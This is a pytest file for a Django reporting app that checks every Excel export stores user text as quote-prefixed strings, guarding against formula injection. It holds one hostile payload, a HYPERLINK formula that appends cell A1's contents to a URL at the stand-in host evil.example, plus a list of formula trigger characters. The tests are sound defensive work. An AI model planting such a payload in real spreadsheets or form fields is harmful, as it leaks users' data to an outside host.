"""No workbook the app writes turns user text into a formula (issue 16).

The payload is text a user can put in front of an office admin: a failed login's user name, an item
title, a lead summary, the 年报文字, an annual report's text. Every export (web and command) must give
it back as a string cell — the exact text, quote-prefixed, never a formula (`<f>` element).
"""
import io
import zipfile

import pytest
from django.core.management import call_command
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from conftest import make_item, make_notice
from core.xlsx import looks_like_formula, text_cell, text_only
from reports.models import AnnualReport, AnnualSummaryText, LeadSummary
from reports.tests.summary_data import TODAY, build_year, freeze_views_today

PAYLOAD = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'


def body(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


def assert_text_only(data: bytes, *expected: str):
    """No formula anywhere in the workbook, and each expected text is a quote-prefixed string cell."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name), name
    wb = load_workbook(io.BytesIO(data))
    found = {}
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if isinstance(cell.value, str):
                    assert cell.data_type == "s", (ws.title, cell.coordinate, cell.value)
                    for text in expected:
                        if text in cell.value:
                            found[text] = cell
    for text in expected:
        assert text in found, f"{text!r} not in the workbook"
        if found[text].value.startswith(text):
            assert found[text].quotePrefix, found[text].coordinate


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"])
def test_the_helper_keeps_every_trigger_as_text(text):
    assert looks_like_formula(text)
    wb = Workbook()
    wb.active["A1"] = text
    buffer = io.BytesIO()
    text_only(wb).save(buffer)
    cell = load_workbook(buffer).active["A1"]
    assert (cell.value, cell.data_type, cell.quotePrefix) == (text, "s", True)
    write_only = Workbook(write_only=True)
    ws = write_only.create_sheet("x")
    ws.append([text_cell(ws, text), 3])
    buffer = io.BytesIO()
    write_only.save(buffer)
    first, number = next(load_workbook(buffer).active.iter_rows())
    assert (first.value, first.data_type, first.quotePrefix, number.value) == (text, "s", True, 3)


def test_a_failed_login_name_in_the_audit_export(client, office):
    client.post(reverse("login"), {"username": PAYLOAD, "password": "wrong-password-1"})
    client.force_login(office)
    response = client.get(reverse("audit:audit-export"))
    assert response.status_code == 200
    assert_text_only(body(response), PAYLOAD)


def test_lead_summary_annual_text_and_titles_in_the_summary_workbook(client, office, unit_a, unit_b, street,
                                                                      monkeypatch, tmp_path):
    freeze_views_today(monkeypatch)
    build_year(unit_a, unit_b, street)
    from tasks.models import Item
    item = Item.objects.get(number=1)
    Item.objects.filter(number=2).update(requirement="+" + PAYLOAD)
    LeadSummary.objects.create(item=item, text=PAYLOAD, unit=unit_a, written_on=TODAY)
    AnnualSummaryText.objects.create(year=2026, text="@" + PAYLOAD)
    client.force_login(office)
    response = client.get(reverse("reports:summary-export"), {"year": 2026})
    assert response.status_code == 200
    assert_text_only(body(response), PAYLOAD, "+" + PAYLOAD, "@" + PAYLOAD)
    path = tmp_path / "summary.xlsx"
    call_command("export_summary", "--year", "2026", "--output", str(path))
    assert_text_only(path.read_bytes(), PAYLOAD, "+" + PAYLOAD)


def test_imported_item_titles_in_the_breakdown_export(client, office, unit_a, tmp_path):
    notice = make_notice(doc_number="测政办〔2026〕7号")
    make_item(notice, 1, title=PAYLOAD, requirement="-" + PAYLOAD, responsible=["区发改局"])
    client.force_login(office)
    response = client.get(reverse("tasks:notice-export-xlsx", args=[notice.pk]))
    assert response.status_code == 200
    assert_text_only(body(response), PAYLOAD, "-" + PAYLOAD)
    path = tmp_path / "breakdown.xlsx"
    call_command("export_breakdown", notice.doc_number, "--output", str(path))
    assert_text_only(path.read_bytes(), PAYLOAD, "-" + PAYLOAD)


def test_annual_report_texts_in_its_workbook(client, alice, unit_a, tmp_path):
    from reports.annual.services import figures_to_json
    from reports.tests.annual_samples import good_figures, good_sections

    sections = good_sections() | {"overview": PAYLOAD, "problems": "-" + PAYLOAD}
    report = AnnualReport.objects.create(year=2026, unit=unit_a, owner_name=unit_a.name,
                                         figures=figures_to_json(good_figures()), **sections)
    client.force_login(alice)
    response = client.get(reverse("reports:annual-export-xlsx", args=[report.pk]))
    assert response.status_code == 200
    assert_text_only(body(response), PAYLOAD, "-" + PAYLOAD)
    path = tmp_path / "annual.xlsx"
    call_command("export_annual_report", "--year", "2026", "--unit", unit_a.short_name, "--output", str(path),
                 "--force")
    assert_text_only(path.read_bytes(), PAYLOAD)


def test_the_disclosure_register_workbook():
    import datetime
    from types import SimpleNamespace

    from disclosure.excel import register_workbook

    row = SimpleNamespace(
        reference="2026-001", received_on=datetime.date(2026, 3, 2), get_channel_display=lambda: "网上",
        get_applicant_type_display=lambda: "自然人", applicant_shown="@" + PAYLOAD, contact_shown="+8613800000000",
        request_text=PAYLOAD, handler_display="-" + PAYLOAD, due_on=None, outcome_display="", answered_on=None,
        light_text="办理中", unit=SimpleNamespace(short_name="区发改局"))
    buffer = io.BytesIO()
    register_workbook([row]).save(buffer)
    assert_text_only(buffer.getvalue(), PAYLOAD, "@" + PAYLOAD, "-" + PAYLOAD, "+8613800000000")
